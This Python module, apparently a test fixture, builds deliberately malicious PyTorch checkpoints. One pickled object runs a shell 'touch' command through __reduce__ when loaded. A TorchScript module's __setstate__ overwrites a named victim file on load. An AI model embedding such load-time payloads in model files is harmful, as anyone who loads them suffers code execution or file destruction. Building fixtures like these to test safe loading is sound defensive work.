"""Malicious weight files that run a command when unpickled or loaded by torch.jit."""

import os
from pathlib import Path

import torch


class Command:
    """Creates a file when unpickled."""

    def __init__(self, marker):
        self.marker = marker

    def __reduce__(self):
        return os.system, (f'touch {self.marker}',)


class Overwriting(torch.nn.Module):
    """Overwrites a file when its TorchScript archive is loaded."""

    def __init__(self, victim: str):
        super().__init__()
        self.victim = victim
        self.register_buffer('w', torch.ones(1))

    @torch.jit.export
    def __getstate__(self) -> tuple[torch.Tensor, str, bool]:
        return self.w, self.victim, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[torch.Tensor, str, bool]) -> None:
        self.victim = state[1]
        self.training = state[2]
        memory = torch.from_file(state[1], True, 8, dtype=torch.uint8)
        memory.fill_(65)
        self.w = memory.float()

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


def write_command(path: Path, marker: Path, legacy: bool = False, **content) -> None:
    """Write a checkpoint that touches ``marker`` when it is unpickled."""
    content = {'meta': {}, 'state_dict': {}, **content, 'x': Command(marker)}
    torch.save(content, path, _use_new_zipfile_serialization=not legacy)
